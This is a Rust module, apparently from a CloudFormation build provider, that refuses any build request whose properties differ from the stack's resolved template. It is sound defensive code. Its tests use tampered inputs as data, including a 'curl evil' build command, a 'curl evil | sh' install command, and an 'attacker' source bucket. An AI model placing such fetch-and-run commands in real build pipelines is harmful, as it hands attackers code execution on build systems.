//! What a request asks for, held against what the stack's own template says.
//!
//! The stack's processed template holds the resource's properties as the deployer wrote
//! them (intrinsics included); [`crate::gate::stack`] resolves them against the stack's
//! parameters, pseudo parameters and physical IDs. Every property of the request must then
//! equal the resolved one, key for key: the buildspec, the commands, the project, the
//! repository, the source, the secrets. A value that cannot be resolved from the stack (an
//! attribute only CloudFormation knows, an import, a dynamic reference) is accepted only
//! where it cannot change what runs or where it is written: a build argument's value, and
//! the per-platform tags and digests a multi-platform index reads from its platform
//! triggers (which the index flow checks in the registry). Pure.

use serde_json::{Map, Value};

use cib_trigger::properties::scalar;
use cib_trigger::resolve::{Cause, placeholder};

/// Whether the property at `path` may hold any value when the template's value is known
/// only to CloudFormation.
pub fn is_open(path: &str) -> bool {
    if let Some(name) = path.strip_prefix("BuildArgs.") {
        return !name.contains(['.', '[']);
    }
    if let Some((index, field)) = path
        .strip_prefix("Manifests[")
        .and_then(|rest| rest.split_once("]."))
    {
        return index.bytes().all(|b| b.is_ascii_digit())
            && matches!(field, "ImageTag" | "ImageDigest");
    }
    false
}

fn join(path: &str, key: &str) -> String {
    if path.is_empty() {
        key.to_string()
    } else {
        format!("{path}.{key}")
    }
}

/// `Ok` when `asked` (the request's properties) is what `expected` (the template's,
/// resolved, placeholders standing for what only CloudFormation knows) allows; otherwise the
/// first difference, naming the property path. `cause` explains a placeholder.
pub fn compare(
    expected: &Map<String, Value>,
    asked: &Map<String, Value>,
    cause: &dyn Fn(usize) -> Option<Cause>,
) -> Result<(), String> {
    object(expected, asked, "", cause)
}

fn object(
    expected: &Map<String, Value>,
    asked: &Map<String, Value>,
    path: &str,
    cause: &dyn Fn(usize) -> Option<Cause>,
) -> Result<(), String> {
    for key in asked.keys() {
        if !expected.contains_key(key) {
            return Err(format!(
                "property {} is not in the stack's template",
                join(path, key)
            ));
        }
    }
    for (key, want) in expected {
        let here = join(path, key);
        match asked.get(key) {
            Some(got) => value(want, got, &here, cause)?,
            None => {
                return Err(format!(
                    "property {here} is in the stack's template but not in the request"
                ));
            }
        }
    }
    Ok(())
}

fn value(
    want: &Value,
    got: &Value,
    path: &str,
    cause: &dyn Fn(usize) -> Option<Cause>,
) -> Result<(), String> {
    if let Some(index) = placeholder(want) {
        if is_open(path) {
            return Ok(());
        }
        let intrinsic = cause(index).map_or_else(|| "an intrinsic".to_string(), |c| c.intrinsic);
        return Err(format!(
            "property {path} is `{intrinsic}` in the stack's template, which the provider \
             cannot confirm from the stack (write it as a literal, a parameter or a Ref to a \
             resource of the stack)"
        ));
    }
    match (want, got) {
        (Value::Object(w), Value::Object(g)) => object(w, g, path, cause),
        (Value::Array(w), Value::Array(g)) => {
            if w.len() != g.len() {
                return Err(format!(
                    "property {path} has {} items in the request, {} in the stack's template",
                    g.len(),
                    w.len()
                ));
            }
            for (i, (w, g)) in w.iter().zip(g).enumerate() {
                value(w, g, &format!("{path}[{i}]"), cause)?;
            }
            Ok(())
        }
        (w, g) => match (scalar(w), scalar(g)) {
            (Some(w), Some(g)) if w == g => Ok(()),
            _ => Err(format!("property {path} differs from the stack's template")),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cib_trigger::resolve::{Context, Resolver};
    use serde_json::json;

    fn check(template_props: Value, asked: Value) -> Result<(), String> {
        let template = json!({"Parameters": {"Bucket": {"Type": "String"}},
                              "Resources": {"Repo": {"Type": "AWS::ECR::Repository"}}});
        let mut ctx = Context::default();
        ctx.parameters.insert("Bucket".into(), json!("sources"));
        ctx.physical_ids.insert("Repo".into(), "cib/api-1".into());
        let mut resolver = Resolver::new(&template, &ctx);
        let Some(Value::Object(expected)) = resolver.resolve(&template_props) else {
            panic!("an object")
        };
        let Value::Object(asked) = asked else {
            panic!("an object")
        };
        compare(&expected, &asked, &|i| resolver.cause(i).cloned())
    }

    fn props() -> Value {
        json!({"RepositoryName": {"Ref": "Repo"}, "Source": {"S3Bucket": {"Ref": "Bucket"}, "S3Key": "k.zip"},
               "TimeoutInMinutes": 40, "CacheDisabled": false, "BuildSpec": "version: 0.2\n",
               "BuildArgs": {"URL": {"Fn::GetAtt": ["Api", "Endpoint"]}}, "ReplicaRegions": []})
    }

    fn asked() -> Value {
        json!({"RepositoryName": "cib/api-1", "Source": {"S3Bucket": "sources", "S3Key": "k.zip"},
               "TimeoutInMinutes": "40", "CacheDisabled": "false", "BuildSpec": "version: 0.2\n",
               "BuildArgs": {"URL": "https://x"}, "ReplicaRegions": []})
    }

    #[test]
    fn what_cloudformation_resolved_matches() {
        assert_eq!(check(props(), asked()), Ok(()));
    }

    #[test]
    fn a_changed_command_source_or_repository_is_named() {
        for (path, value) in [
            (
                "/BuildSpec",
                json!("version: 0.2\nphases: {build: {commands: [curl evil]}}\n"),
            ),
            ("/Source/S3Bucket", json!("attacker")),
            ("/RepositoryName", json!("cib/victim-2")),
            ("/TimeoutInMinutes", json!("41")),
        ] {
            let mut a = asked();
            if let Some(slot) = a.pointer_mut(path) {
                *slot = value;
            }
            let e = check(props(), a).expect_err("refused");
            let dotted = path.trim_start_matches('/').replace('/', ".");
            assert!(e.contains(&dotted), "{e}");
        }
    }

    #[test]
    fn added_missing_and_reshaped_properties_are_refused() {
        let mut extra = asked();
        extra["InstallCommands"] = json!(["curl evil | sh"]);
        assert!(
            check(props(), extra)
                .expect_err("extra")
                .contains("InstallCommands")
        );
        let mut missing = asked();
        missing.as_object_mut().map(|m| m.remove("BuildSpec"));
        assert!(
            check(props(), missing)
                .expect_err("missing")
                .contains("BuildSpec")
        );
        let mut list = asked();
        list["ReplicaRegions"] = json!(["us-west-2"]);
        assert!(
            check(props(), list)
                .expect_err("list")
                .contains("ReplicaRegions")
        );
    }

    #[test]
    fn only_build_argument_values_and_index_digests_may_be_deploy_time() {
        let mut p = props();
        p["Source"]["S3Key"] = json!({"Fn::ImportValue": "Key"});
        let e = check(p, asked()).expect_err("import");
        assert!(
            e.contains("Source.S3Key") && e.contains("Fn::ImportValue"),
            "{e}"
        );
        assert!(is_open("BuildArgs.URL"));
        assert!(is_open("Manifests[1].ImageDigest"));
        assert!(!is_open("Manifests[1].Platform"));
        assert!(!is_open("BuildSpec"));
        assert!(!is_open("BuildArgs"));
    }
}
